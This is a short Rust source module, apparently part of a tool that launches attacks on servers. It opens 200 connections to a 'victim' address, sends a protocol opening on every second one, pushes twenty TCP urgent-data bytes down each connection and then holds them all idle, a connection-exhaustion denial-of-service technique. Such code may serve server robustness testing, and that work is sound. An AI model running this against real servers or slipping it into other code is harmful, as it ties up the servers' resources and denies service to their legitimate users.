//! Urgent data: bytes that stand beside the stream and that no server reads.

use super::held::Held;
use super::{Launched, beginning};
use crate::servers::raw::{open, send_urgent};
use crate::servers::victim::Victim;
use std::io::Write;

const CONNECTIONS: usize = 200;
const BYTES: usize = 20;

/// Every second one sends nothing else. The last byte of each stays where it is.
pub(super) fn launch(victim: &Victim) -> Launched {
    let mut streams = Vec::new();
    for n in 0..CONNECTIONS {
        let mut stream = open(victim.address())?;
        if n % 2 == 0 {
            stream.write_all(beginning(victim.kind))?;
        }
        for _ in 0..BYTES {
            send_urgent(&stream)?;
        }
        streams.push(stream);
    }
    Ok(Held::idle(streams))
}
